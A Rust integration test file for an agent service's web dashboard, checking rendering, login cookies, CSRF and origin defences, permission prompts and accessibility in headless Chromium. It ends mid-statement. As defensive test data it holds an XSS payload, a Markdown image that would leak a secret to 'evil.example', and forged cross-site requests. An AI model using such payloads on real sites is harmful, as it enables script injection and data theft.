//! The dashboard, rendered by headless Chromium (Debian's `chromium`): its DOM after the page's
//! script ran, not only the HTML the server sent.

use reqwest::{Method, StatusCode};
use serde_json::json;

use crate::failures::paused_session;
use crate::support::*;

/// The text between `start` and the next `end` after it.
fn section<'a>(dom: &'a str, start: &str, end: &str) -> &'a str {
    let from = dom
        .find(start)
        .unwrap_or_else(|| panic!("{start:?} is not in the DOM:\n{dom}"));
    let rest = &dom[from..];
    &rest[..rest.find(end).map(|i| i + end.len()).unwrap_or(rest.len())]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dashboard_renders_sessions_orphans_and_records_in_chromium() {
    let s = Server::start().await;
    s.agent("a", json!({ "inactivity_ms": 100, "idle_policy": "pause" }))
        .await;
    let r = s.runner("r", &["a"]).await;

    // A session whose teardown failed until its environment was orphaned.
    let orphan = paused_session(&s, &r).await;
    s.close(&orphan).await;
    for _ in 0..3 {
        let teardown = r.take("teardown").await;
        teardown
            .ok(
                "failed",
                json!({ "phase": "teardown", "error": "docker: permission denied <sock>" }),
            )
            .await;
    }
    let env = s.show(&orphan).await["environment"]["id"]
        .as_str()
        .unwrap()
        .to_string();

    // A running session with a transcript and a record that nothing owns.
    let live = s.new_session("a", "refactor the parser").await;
    let run = r.take("start").await;
    run.plugs(true, &["checkout", "sandbox"]).await;
    for plug in ["sandbox", "cache"] {
        let (status, _) = r
            .call(
                Method::PUT,
                &format!("/v1/runner/runs/{}/plug-state/{plug}", run.id),
                Some(json!({ "entries": { "id": "x" } })),
            )
            .await;
        assert_eq!(status, StatusCode::OK);
    }
    run.ok("started", json!({})).await;
    run.say("Looking at <parser.rs> now").await;
    run.ok(
        "egress",
        json!({
            "reached": [{ "destination": "api.anthropic.com:443", "connections": 3, "sent": 2048, "received": 3_000_000 }],
            "refused": ["<b>evil</b>.example:443"],
        }),
    )
    .await;

    let profile = tempfile::tempdir().unwrap();
    let mut b = crate::browser::Browser::start(profile.path()).await;
    // Without logging in: the login page.
    b.open(&format!("{}/", s.url)).await;
    let dom = b.dom().await;
    assert!(dom.contains("<h1>Log in"), "{dom}");
    assert!(!dom.contains(&live));

    // The sessions, with their states, and the orphaned environment with its error and button.
    b.log_in(&s.url, ADMIN, "/").await;
    let dom = b.dom().await;
    let live_row = section(&dom, &format!("data-session=\"{live}\""), "</tr>");
    assert!(live_row.contains("state-active"), "{live_row}");
    let orphan_row = section(&dom, &format!("data-session=\"{orphan}\""), "</tr>");
    assert!(
        orphan_row.contains(">closed<") && orphan_row.contains(">orphaned<"),
        "{orphan_row}"
    );
    let orphans = section(&dom, "<section id=\"orphaned\">", "</section>");
    assert!(orphans.contains(&env));
    assert!(
        orphans.contains("docker: permission denied &lt;sock&gt;"),
        "the last error, escaped: {orphans}"
    );
    assert!(
        orphans.contains(&format!("action=\"/environments/{env}/retry\""))
            && orphans.contains("Retry teardown")
    );
    assert!(
        dom.contains("data-local=\"1\""),
        "the page's script ran in the browser"
    );
    let unowned = section(&dom, "<section id=\"unowned\">", "</section>");
    assert!(
        unowned.contains(&live) && unowned.contains(">cache<") && !unowned.contains(">sandbox<"),
        "{unowned}"
    );

    // The session view: transcript, runs, environment, plug records with "owned by nothing".
    b.open(&format!("{}/sessions/{live}", s.url)).await;
    let dom = b.dom().await;
    let transcript = section(&dom, "id=\"transcript\"", "id=\"send\"");
    assert!(
        transcript.contains("refactor the parser")
            && transcript.contains("Looking at &lt;parser.rs&gt; now"),
        "{transcript}"
    );
    let runs = section(&dom, "id=\"runs\"", "</table>");
    assert!(
        runs.contains("start") && runs.contains("state-running"),
        "{runs}"
    );
    let environment = section(&dom, "id=\"environment\"", "</table>");
    assert!(environment.contains("state-active"), "{environment}");
    // What left the agent's network, per destination; refused names escaped.
    let egress = section(&dom, "id=\"egress\"", "</table>");
    assert!(
        egress.contains("<td>api.anthropic.com:443</td><td>3</td><td>2048 B</td><td>2929 KiB</td>"),
        "{egress}"
    );
    assert!(
        egress.contains("&lt;b&gt;evil&lt;/b&gt;.example:443"),
        "{egress}"
    );
    assert!(
        dom.contains(&format!("action=\"/sessions/{live}/messages\""))
            && dom.contains(&format!("action=\"/sessions/{live}/close\""))
    );
    let cache = section(&dom, "data-plug=\"cache\"", "</tr>");
    assert!(cache.contains("owned by nothing"), "{cache}");
    let sandbox = section(&dom, "data-plug=\"sandbox\"", "</tr>");
    assert!(
        sandbox.contains("owned by the current plug chain"),
        "{sandbox}"
    );

    // The orphaned session's view shows the last error and the button; pressing it (the form's
    // POST, with the dashboard's cookie) offers a teardown run again.
    b.open(&format!("{}/sessions/{orphan}", s.url)).await;
    let dom = b.dom().await;
    let environment = section(&dom, "id=\"environment\"", "</table>");
    assert!(
        environment.contains("state-orphaned") && environment.contains("permission denied"),
        "{environment}"
    );
    assert!(dom.contains(&format!("action=\"/environments/{env}/retry\"")));
    assert!(
        !dom.contains("id=\"send\""),
        "an ended session has no message form"
    );
    let forged = reqwest::Client::new()
        .post(format!("{}/environments/{env}/retry", s.url))
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status(), StatusCode::UNAUTHORIZED);
    b.navigates(&format!(
        "document.querySelector('form[action=\"/environments/{env}/retry\"]').submit()"
    ))
    .await;
    assert_eq!(
        b.eval("location.pathname").await,
        format!("/sessions/{orphan}").as_str()
    );
    r.take("teardown").await.ok("torn_down", json!({})).await;
    b.open(&format!("{}/sessions/{orphan}", s.url)).await;
    let dom = b.dom().await;
    assert!(section(&dom, "id=\"environment\"", "</table>").contains("state-torn_down"));
}

/// The dashboard's forms: a message to an orphaned environment is refused with the reason ("the
/// web shows an error"); a session is closed from the dashboard once its run received the stop.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dashboard_sends_closes_and_shows_errors() {
    let s = Server::start().await;
    s.agent("a", json!({ "inactivity_ms": 100, "idle_policy": "pause" }))
        .await;
    let r = s.runner("r", &["a"]).await;
    let login = s.web_login().await;
    let web = login.web.clone();
    let cookie = login.cookie.clone();
    let post = |path: String, form: Vec<(&'static str, &'static str)>| {
        let login = &login;
        let url = s.url.clone();
        async move { login.post(&url, &path, &form).await }
    };

    // An environment whose teardown failed for good, on a session that still wants an answer.
    let id = paused_session(&s, &r).await;
    s.send(&id, "first").await;
    r.take("resume")
        .await
        .ok(
            "failed",
            json!({ "phase": "before_agent_start", "error": "broken" }),
        )
        .await;
    for _ in 0..3 {
        r.take("teardown")
            .await
            .ok(
                "failed",
                json!({ "phase": "teardown", "error": "rm: busy" }),
            )
            .await;
    }
    let (status, page) = post(format!("/sessions/{id}/messages"), vec![("text", "hello?")]).await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert!(page.contains("an admin must retry the teardown"), "{page}");

    // Sending and closing a running session from the dashboard.
    let live = s.new_session("a", "hello").await;
    let run = std::sync::Arc::new(r.take_started("start").await);
    run.wait_directive("prompt").await;
    let (status, _) = post(
        format!("/sessions/{live}/messages"),
        vec![("text", "and then?")],
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(run.wait_directive("prompt").await["text"], "and then?");
    let (status, page) = post(format!("/sessions/{live}/close"), vec![]).await;
    assert_eq!(
        status,
        StatusCode::CONFLICT,
        "nobody reads the directives yet"
    );
    assert!(page.contains("nothing changed"), "{page}");
    assert_eq!(s.show(&live).await["state"], "active");
    let listener = run.clone();
    let stop = tokio::spawn(async move { listener.wait_directive("stop").await });
    let (status, _) = post(format!("/sessions/{live}/close"), vec![]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(stop.await.unwrap()["reason"], "closed");
    assert_eq!(s.show(&live).await["state"], "closed");
    let (status, page) = post(format!("/sessions/{live}/messages"), vec![("text", "more")]).await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert!(
        page.contains("has ended"),
        "follow-ups from the web to an ended session are rejected: {page}"
    );
    let (status, _) = web
        .post(format!("{}/sessions/{live}/close", s.url))
        .send()
        .await
        .map(|r| (r.status(), ()))
        .unwrap();
    assert_eq!(
        status,
        StatusCode::UNAUTHORIZED,
        "the forms need the dashboard's cookie"
    );

    // A page of another origin cannot spend the cookie: another port of this
    // host is the same *site* to `SameSite=Strict`, so the browser sends it.
    for (name, value) in [
        ("origin", "http://127.0.0.1:9"),
        ("origin", "null"),
        ("sec-fetch-site", "same-site"),
        ("sec-fetch-site", "cross-site"),
    ] {
        for path in [
            format!("/sessions/{id}/messages"),
            "/v1/runners/r/revoke".to_string(),
        ] {
            let resp = web
                .post(format!("{}{path}", s.url))
                .header("cookie", cookie.clone())
                .header(name, value)
                .form(&[("text", "from elsewhere")])
                .send()
                .await
                .unwrap();
            assert_eq!(
                resp.status(),
                StatusCode::FORBIDDEN,
                "{name}: {value} {path}"
            );
        }
    }
    let runners = s.ok(Method::GET, "/v1/runners", None).await;
    assert!(
        runners.to_string().contains("\"revoked_at\":null"),
        "nothing was revoked: {runners}"
    );
    // The dashboard's own pages say they are (and the message is refused for
    // what it is: the session has ended).
    for (name, value) in [
        ("sec-fetch-site", "same-origin"),
        ("origin", s.url.as_str()),
    ] {
        let resp = web
            .post(format!("{}/sessions/{live}/messages", s.url))
            .header("cookie", cookie.clone())
            .header(name, value)
            .form(&[("text", "more"), ("csrf", login.csrf.as_str())])
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::CONFLICT, "{name}: {value}");
    }
    // A form without the login's CSRF token, or with another's, changes nothing, even from the
    // dashboard's own origin.
    let other = s.web_login().await;
    for csrf in [None, Some(other.csrf.as_str()), Some("")] {
        let mut form = vec![("text", "forged")];
        form.extend(csrf.map(|c| ("csrf", c)));
        let resp = web
            .post(format!("{}/sessions/{id}/messages", s.url))
            .header("cookie", cookie.clone())
            .header("sec-fetch-site", "same-origin")
            .form(&form)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::FORBIDDEN, "csrf {csrf:?}");
        assert!(resp.text().await.unwrap().contains("nothing was changed"));
    }
    let transcript = serde_json::Value::from(s.transcript(&id).await).to_string();
    assert!(!transcript.contains("forged"), "{transcript}");
}

/// Logging in with the login page's form sets the cookie; a wrong token does not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_login_form_sets_the_dashboard_cookie() {
    let s = Server::start().await;
    let web = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let resp = web
        .post(format!("{}/login", s.url))
        .form(&[("token", ADMIN)])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::SEE_OTHER);
    let cookie = resp.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    assert!(!cookie.contains("Secure"), "plain HTTP: {cookie}");
    // Behind a TLS proxy that says so, the cookie is never sent over plain HTTP.
    for (name, value) in [
        ("x-forwarded-proto", "https"),
        ("forwarded", "for=10.0.0.1;proto=https"),
    ] {
        let resp = web
            .post(format!("{}/login", s.url))
            .header(name, value)
            .form(&[("token", ADMIN)])
            .send()
            .await
            .unwrap();
        let cookie = resp.headers()["set-cookie"].to_str().unwrap();
        assert!(cookie.contains("; Secure"), "{name}: {cookie}");
    }
    let page = web
        .get(format!("{}/", s.url))
        .header("cookie", cookie.split(';').next().unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), StatusCode::OK);
    assert!(page.text().await.unwrap().contains("<h1>Sessions</h1>"));
    let resp = web
        .post(format!("{}/login", s.url))
        .form(&[("token", "bla_wrong")])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
    assert!(resp.headers().get("set-cookie").is_none());
    // Another site's page cannot log this browser in (as its author: what the browser then did
    // would be recorded as theirs), nor out.
    for (name, value) in [
        ("sec-fetch-site", "cross-site"),
        ("origin", "https://elsewhere.example"),
    ] {
        for path in ["/login", "/logout"] {
            let resp = web
                .post(format!("{}{path}", s.url))
                .header(name, value)
                .form(&[("token", ADMIN)])
                .send()
                .await
                .unwrap();
            assert_eq!(resp.status(), StatusCode::FORBIDDEN, "{path} {name}");
            assert!(resp.headers().get("set-cookie").is_none(), "{path} {name}");
        }
    }

    // The cookie is not the token: a login's random id, ending after 12 hours.
    let id = cookie.split(';').next().unwrap();
    assert!(id.starts_with("blaise_session=bls_"), "{cookie}");
    assert!(!cookie.contains(ADMIN), "{cookie}");
    assert!(cookie.contains("Max-Age=43200"), "{cookie}");
    // The old cookie, the token itself, is no login.
    let page = web
        .get(format!("{}/", s.url))
        .header("cookie", format!("blaise_token={ADMIN}"))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), StatusCode::UNAUTHORIZED);
    // A token in a link logs nobody in, and says why.
    let resp = web
        .get(format!("{}/login?token={ADMIN}&next=/agents", s.url))
        .send()
        .await
        .unwrap();
    assert!(resp.headers().get("set-cookie").is_none());
    let text = resp.text().await.unwrap();
    assert!(
        text.contains("A token in a link stays in browser and shell history: nobody was logged in")
            && text.contains("name=\"next\" value=\"/agents\""),
        "{text}"
    );
    // Logging out ends the login: its cookie no longer opens a page, sent again or not.
    let login = s.web_login().await;
    let (status, _) = login.post(&s.url, "/logout", &[]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let page = web
        .get(format!("{}/", s.url))
        .header("cookie", &login.cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), StatusCode::UNAUTHORIZED);
    // The other login goes on.
    let page = web
        .get(format!("{}/", s.url))
        .header("cookie", id)
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), StatusCode::OK);
}

/// What the agent did, as the dashboard shows it in Chromium: a tool call
/// once (its last update), how each run opened the conversation, and a
/// permission request with a button for each answer — which answers it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dashboard_shows_what_the_agent_did_and_answers_its_permission_requests() {
    let s = Server::start().await;
    s.agent(
        "a",
        json!({ "inactivity_ms": 600000, "idle_policy": "pause" }),
    )
    .await;
    let r = s.runner("r", &["a"]).await;
    let id = s.new_session("a", "build it").await;
    let run = r.take("start").await;
    run.plugs(true, &["checkout"]).await;
    run.ok("started", json!({ "conversation": "new" })).await;
    let call = |status: &str, output: Option<&str>| {
        let mut call = json!({ "id": "tc-1", "title": "cargo build", "kind": "execute",
                               "status": status, "command": "cargo build --release" });
        if let Some(output) = output {
            call["output"] = json!(output);
        }
        call
    };
    let entry = |seq: i64, call: serde_json::Value| {
        json!({ "seq": seq, "kind": "tool_call", "content": {
            "text": format!("cargo build [{}]", call["status"].as_str().unwrap()),
            "stream": "tc-1", "last": true, "tool_call": call } })
    };
    let (status, _) = run
        .transcript(json!([
            entry(1, call("in_progress", None)),
            entry(2, call("completed", Some("Finished release"))),
        ]))
        .await;
    assert_eq!(status, StatusCode::OK);
    let request = json!({
        "request_id": "perm-1",
        "tool_call": { "id": "tc-2", "title": "Remove target/", "kind": "delete",
                       "status": "pending", "command": "rm -rf target <all>" },
        "options": [
            { "option_id": "allow", "name": "Allow", "kind": "allow_once" },
            { "option_id": "option-2", "name": "Reject", "kind": "reject_once" }
        ]
    });
    let (status, _) = r
        .call(
            Method::POST,
            &format!("/v1/runner/runs/{}/permissions", run.id),
            Some(json!({ "request_id": "perm-1", "request": request })),
        )
        .await;
    assert_eq!(status, StatusCode::OK);

    let profile = tempfile::tempdir().unwrap();
    let mut b = crate::browser::Browser::start(profile.path()).await;
    b.log_in(&s.url, ADMIN, &format!("/sessions/{id}")).await;
    let dom = b.dom().await;
    let transcript = section(&dom, "id=\"transcript\"", "id=\"send\"");
    assert_eq!(
        transcript.matches("class=\"tool ").count(),
        1,
        "one tool call, as it stood last: {transcript}"
    );
    let card = section(transcript, "class=\"tool ", "</details>");
    assert!(
        card.contains("state-completed")
            && card.contains("$ cargo build --release")
            && card.contains("<pre class=\"output\">Finished release</pre>"),
        "a card with its status, command and output: {card}"
    );
    assert!(!transcript.contains("in progress"), "{transcript}");
    let runs = section(&dom, "id=\"runs\"", "</table>");
    assert!(runs.contains("class=\"conversation-kind\">new<"), "{runs}");
    let asked = section(&dom, "class=\"permission\"", "</div>");
    assert!(asked.contains("Remove target/"), "{asked}");
    assert!(
        asked.contains("$ rm -rf target &lt;all&gt;"),
        "escaped: {asked}"
    );
    assert!(
        asked.contains("answer-allow_once\">Allow</button>")
            && asked.contains("answer-reject_once\">Reject</button>"),
        "{asked}"
    );

    // An option the request does not offer is refused, naming what it offers.
    let (status, refused) = s
        .admin(
            Method::POST,
            &format!("/v1/sessions/{id}/permissions/perm-1/answer"),
            Some(json!({ "option_id": "always" })),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{refused}");
    assert!(
        refused.to_string().contains("it offers allow, option-2"),
        "{refused}"
    );
    // The button's form answers it.
    let (status, _) = s
        .web_login()
        .await
        .post(
            &s.url,
            &format!("/sessions/{id}/permissions/perm-1/answer"),
            &[("option_id", "option-2")],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(
        run.wait_directive("permission_answer").await["option_id"],
        "option-2"
    );
    let view = s.show(&id).await;
    assert_eq!(view["permission_requests"][0]["answer"], "option-2");
    assert_eq!(view["runs"][0]["conversation"], "new");
}

/// What every page of the dashboard must be for everyone: one heading, every field labelled,
/// every button named, no horizontal scroll at `width` pixels. Returns what is wrong.
async fn page_problems(b: &mut crate::browser::Browser, width: u32) -> serde_json::Value {
    b.eval(&format!(
        "(() => {{ const p = [];
          const unlabelled = [...document.querySelectorAll('input:not([type=hidden]),select,textarea')]
            .filter(e => e.labels.length === 0 && !e.getAttribute('aria-label')).map(e => e.name);
          if (unlabelled.length) p.push('unlabelled: ' + unlabelled.join(','));
          const unnamed = [...document.querySelectorAll('button')].filter(b => !b.textContent.trim());
          if (unnamed.length) p.push(unnamed.length + ' buttons without a name');
          if (document.querySelectorAll('h1').length !== 1) p.push('headings h1: ' + document.querySelectorAll('h1').length);
          if (document.documentElement.scrollWidth > {width}) p.push('scrolls sideways: ' + document.documentElement.scrollWidth + ' because of '
            + [...document.querySelectorAll('main *')].filter(e => e.getBoundingClientRect().right > {width} + 1 && e.parentElement.getBoundingClientRect().right <= {width} + 1)
                .slice(0, 3).map(e => e.tagName + '.' + e.className + ' in ' + e.parentElement.tagName + '.' + e.parentElement.className + ' (' + getComputedStyle(e.parentElement).overflowX + ') ' + e.textContent.slice(0, 40)).join(' | '));
          if (!document.querySelector('[aria-live]')) p.push('no live region');
          return p; }})()"
    ))
    .await
}

/// An operator's day in the dashboard, driven in headless Chromium as a person would: start a
/// session from the form, see the agent's answer appear without a reload (what they were typing
/// kept), answer a permission request with a click, change an agent, add a scoped runner (its
/// token shown once) and revoke it, close the session — each destructive action asking first.
/// Every page is checked at 400 px and for labels.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_operator_drives_the_dashboard_in_a_browser() {
    use std::time::Duration;
    let s = Server::start().await;
    s.agent("a", json!({ "inactivity_ms": 600_000 })).await;
    s.agent("b", json!({})).await;
    let r = s.runner("r", &["a"]).await;
    let profile = tempfile::tempdir().unwrap();
    let mut b = crate::browser::Browser::start(profile.path()).await;
    b.log_in(&s.url, ADMIN, "/").await;
    assert_eq!(
        b.eval("document.querySelector('h1').textContent").await,
        "Sessions"
    );

    // A new session from the form.
    b.navigates(
        "document.querySelector('#new-session select[name=agent]').value = 'a';
         document.querySelector('#first-message').value = 'please build **it**';
         document.querySelector('#new-session form').requestSubmit()",
    )
    .await;
    let path = b.eval("location.pathname").await;
    let id = path
        .as_str()
        .unwrap()
        .trim_start_matches("/sessions/")
        .to_string();
    assert!(id.starts_with("ses_"), "the new session's page: {path}");
    assert_eq!(s.show(&id).await["agent"], "a");
    assert!(
        b.eval("document.querySelector('#transcript .msg-user strong')?.textContent")
            .await
            == "it",
        "the first message, its Markdown rendered"
    );

    // The agent answers: it appears without a reload, and the half-typed message stays.
    let run = std::sync::Arc::new(r.take("start").await);
    run.plugs(true, &["checkout"]).await;
    run.ok("started", json!({ "conversation": "new" })).await;
    b.eval("window.stayed = true; document.querySelector('#message').value = 'half typed'")
        .await;
    run.say("The build *passed*. <img src=x onerror=alert(1)> ![chart](https://evil.example/leak?k=secret)").await;
    let took = b
        .until(
            "document.getElementById('transcript').textContent.includes('The build passed')",
            Duration::from_secs(10),
        )
        .await;
    eprintln!(
        "the answer appeared {} ms after the runner sent it",
        took.as_millis()
    );
    assert!(
        took < Duration::from_secs(1),
        "the answer appears within 1 s of the agent's (took {took:?})"
    );
    assert_eq!(b.eval("window.stayed === true").await, true, "no reload");
    assert_eq!(
        b.eval("document.querySelector('#message').value").await,
        "half typed"
    );
    // The agent's HTML is text; its image is a link nothing fetched.
    assert_eq!(
        b.eval("document.querySelectorAll('#transcript img').length")
            .await,
        0
    );
    assert!(
        b.eval("document.getElementById('transcript').textContent")
            .await
            .as_str()
            .unwrap()
            .contains("<img src=x onerror=alert(1)>")
    );
    assert_eq!(
        b.eval("[...document.querySelectorAll('#transcript a.image')].map(a => a.rel).join()")
            .await,
        "noopener noreferrer nofollow"
    );
    b.screenshot("session").await;

    // A permission request: a card, answered with a click.
    let request = json!({
        "request_id": "perm-1",
        "tool_call": { "id": "tc-2", "title": "Remove target/", "kind": "delete",
                       "status": "pending", "command": "rm -rf target" },
        "options": [
            { "option_id": "allow", "name": "Allow", "kind": "allow_once" },
            { "option_id": "reject", "name": "Reject", "kind": "reject_once" }
        ]
    });
    let (status, _) = r
        .call(
            Method::POST,
            &format!("/v1/runner/runs/{}/permissions", run.id),
            Some(json!({ "request_id": "perm-1", "request": request })),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    b.until(
        "!!document.querySelector('.permission button.answer-allow_once')",
        Duration::from_secs(10),
    )
    .await;
    b.navigates("document.querySelector('.permission button.answer-allow_once').click()")
        .await;
    assert_eq!(
        run.wait_directive("permission_answer").await["option_id"],
        "allow"
    );
    b.until(
        "!document.querySelector('.permission')",
        Duration::from_secs(10),
    )
    .await;

    // Closing asks first: declined, nothing happens; accepted, the session closes.
    b.eval("window.confirm = () => false; document.querySelector('#close button').click()")
        .await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(s.show(&id).await["state"], "active", "declined: still open");
    let listener = run.clone();
    let stop = tokio::spawn(async move { listener.wait_directive("stop").await });
    b.navigates("window.confirm = (m) => m.includes('torn down'); document.querySelector('#close button').click()")
        .await;
    assert_eq!(stop.await.unwrap()["reason"], "closed");
    b.until("!document.querySelector('#send')", Duration::from_secs(10))
        .await;
    assert_eq!(s.show(&id).await["state"], "closed");

    // Found by words of its first message and by its runner; other words find nothing.
    for (query, found) in [
        ("?q=PLEASE+BUILD", true),
        ("?q=nothing+like+it", false),
        ("?runner=r", true),
        ("?state=closed&agent=a", true),
        ("?state=paused", false),
    ] {
        b.open(&format!("{}/{query}", s.url)).await;
        let rows = b
            .eval(&format!(
                "document.querySelectorAll('#sessions tr[data-session=\"{id}\"]').length"
            ))
            .await;
        assert_eq!(rows, json!(usize::from(found)), "{query}");
    }

    // Agents: the settings, changed from the page.
    b.open(&format!("{}/agents", s.url)).await;
    b.screenshot("agents").await;
    b.eval("const f = document.querySelector('#edit-a'); f.open = true; f.scrollIntoView()")
        .await;
    b.screenshot("agent-form").await;
    b.navigates(
        "document.querySelector('#edit-a input[name=inactivity]').value = '20m';
         document.querySelector('#edit-a input[name=requires_labels]').value = 'gpu, eu';
         document.querySelector('#edit-a input[name=session_budget]').value = '2.50';
         document.querySelector('#edit-a input[name=warm]').value = '2';
         document.querySelector('#edit-a form').requestSubmit()",
    )
    .await;
    let agent = s.ok(Method::GET, "/v1/agents/a", None).await;
    assert_eq!(agent["settings"]["inactivity_ms"], 1_200_000, "{agent}");
    assert_eq!(agent["settings"]["warm_agents"], 2, "{agent}");
    let row = b
        .eval("document.querySelector('#agents tr[data-agent=a]').innerText")
        .await;
    assert!(row.as_str().unwrap().contains("2 on each runner"), "{row}");
    b.screenshot("agents-warm").await;
    assert_eq!(agent["settings"]["session_budget"], 2.5, "{agent}");
    assert_eq!(
        agent["settings"]["daily_budget"],
        serde_json::Value::Null,
        "{agent}"
    );
    assert_eq!(
        agent["settings"]["requires_labels"],
        json!(["eu", "gpu"]),
        "{agent}"
    );
    let row = b
        .eval("document.querySelector('tr[data-agent=a]').textContent")
        .await;
    assert!(row.as_str().unwrap().contains("20m"), "{row}");
    assert!(row.as_str().unwrap().contains("session 2.5"), "{row}");
    // A blank budget is none; an amount that is not one is refused, naming the field.
    b.navigates(
        "document.querySelector('#edit-a input[name=session_budget]').value = '';
         document.querySelector('#edit-a input[name=daily_budget]').value = 'ten';
         document.querySelector('#edit-a form').requestSubmit()",
    )
    .await;
    let said = b.eval("document.body.innerText").await;
    assert!(
        said.as_str()
            .unwrap()
            .contains("daily budget: \"ten\" is not an amount"),
        "{said}"
    );
    let agent = s.ok(Method::GET, "/v1/agents/a", None).await;
    assert_eq!(
        agent["settings"]["session_budget"], 2.5,
        "nothing changed: {agent}"
    );
    b.open(&format!("{}/agents", s.url)).await;
    b.navigates(
        "document.querySelector('#edit-a input[name=session_budget]').value = '';
         document.querySelector('#edit-a form').requestSubmit()",
    )
    .await;
    let agent = s.ok(Method::GET, "/v1/agents/a", None).await;
    assert_eq!(
        agent["settings"]["session_budget"],
        serde_json::Value::Null,
        "{agent}"
    );

    // Runners: add one with a scope, its token shown once; revoking asks first.
    b.open(&format!("{}/runners", s.url)).await;
    b.navigates(
        "const f = document.querySelector('#add-runner form');
         f.querySelector('[name=name]').value = 'r2';
         f.querySelector('[name=agents]').value = 'b';
         f.requestSubmit()",
    )
    .await;
    let token = b.eval("document.getElementById('token').textContent").await;
    let token = token.as_str().unwrap().to_string();
    assert!(token.starts_with("blr_"), "{token}");
    b.screenshot("token").await;
    let r2 = FakeRunner::new(&s, &token, "r2-1");
    let (status, v) = r2
        .call(
            Method::POST,
            "/v1/runner/connect",
            Some(json!({ "instance": "r2-1", "agents": ["a"] })),
        )
        .await;
    assert_eq!(
        status,
        StatusCode::FORBIDDEN,
        "the scope set on the page: {v}"
    );
    r2.connect(&["b"]).await;
    b.open(&format!("{}/runners", s.url)).await;
    let shown = b
        .eval("document.querySelector('section[data-runner=r2]').textContent")
        .await;
    assert!(
        shown
            .as_str()
            .unwrap()
            .contains("may serve agents b; claim any label")
            && shown.as_str().unwrap().contains("r2-1"),
        "{shown}"
    );
    b.screenshot("runners").await;
    let revoke = "document.querySelector('form[action=\"/runners/r2/revoke\"] button').click()";
    b.eval(&format!("window.confirm = () => false; {revoke}"))
        .await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let r2_revoked = || async {
        let runners = s.ok(Method::GET, "/v1/runners", None).await;
        let r2 = runners["runners"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["name"] == "r2")
            .unwrap()
            .clone();
        !r2["revoked_at"].is_null()
    };
    assert!(!r2_revoked().await, "declined: not revoked");
    b.navigates(&format!("window.confirm = () => true; {revoke}"))
        .await;
    b.until(
        "document.querySelector('section[data-runner=r2]').textContent.includes('revoked')",
        Duration::from_secs(10),
    )
    .await;
    assert!(r2_revoked().await, "accepted: revoked");

    // Every page: labelled, one heading, a live region, no sideways scroll on a phone.
    for width in [1200, 400] {
        b.width(width).await;
        for page in [
            "/",
            &format!("/sessions/{id}"),
            "/agents",
            "/runners",
            "/environments",
        ] {
            b.open(&format!("{}{page}", s.url)).await;
            b.screenshot(&format!("{width}{}", page.replace('/', "-")))
                .await;
            let problems = page_problems(&mut b, width).await;
            assert_eq!(problems, json!([]), "{page} at {width} px");
        }
    }
}

/// An answer from anywhere reaches an open page at once: a permission request answered with
/// the CLI leaves the session's page (its buttons gone, the navigation's count and the title
/// with them) within a second, as does a new request arrive on it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_from_the_cli_updates_an_open_page_within_a_second() {
    use std::time::Duration;
    let s = Server::start().await;
    s.agent("a", json!({ "inactivity_ms": 600_000 })).await;
    let r = s.runner("r", &["a"]).await;
    let id = s.new_session("a", "clean up").await;
    let run = r.take_started("start").await;
    let profile = tempfile::tempdir().unwrap();
    let mut b = crate::browser::Browser::start(profile.path()).await;
    b.log_in(&s.url, ADMIN, &format!("/sessions/{id}")).await;
    // The page is open: the request arrives on it.
    crate::waiting_for_you::ask(&r, &run, crate::waiting_for_you::removal("perm-1")).await;
    let arrived = b
        .until(
            "!!document.querySelector('.permission button.answer-allow_once') && document.title.startsWith('(1) ')",
            Duration::from_secs(5),
        )
        .await;
    assert_eq!(
        b.eval("document.querySelector('#waiting-count')?.textContent")
            .await,
        ", waiting for you: 1"
    );
    b.screenshot("waiting-for-you").await;
    b.open(&format!("{}/", s.url)).await;
    b.screenshot("sessions-waiting-for-you").await;
    assert_eq!(
        b.eval("document.querySelectorAll('#waiting-for-you tr.waiting-for-you').length")
            .await,
        1
    );
    // What waits, at a desk and on a phone: labelled, no sideways scroll.
    for width in [1200, 400] {
        b.width(width).await;
        for page in ["/".to_string(), format!("/sessions/{id}")] {
            b.open(&format!("{}{page}", s.url)).await;
            b.screenshot(&format!("waiting-{width}{}", page.replace('/', "-")))
                .await;
            assert_eq!(
                page_problems(&mut b, width).await,
                json!([]),
                "{page} at {width} px"
            );
        }
    }
    b.width(1200).await;
    b.open(&format!("{}/sessions/{id}", s.url)).await;
    // Answered elsewhere.
    ok(&s, &["session", "answer", &id, "perm-1", "allow"]);
    let left = b
        .until(
            "!document.querySelector('.permission') && !document.querySelector('#waiting-count') && !document.title.startsWith('(')",
            Duration::from_secs(5),
        )
        .await;
    eprintln!(
        "the request was on the page {arrived:?} after it was asked; gone {left:?} after the CLI answered"
    );
    // The page says who answered, and through what.
    let answered = b
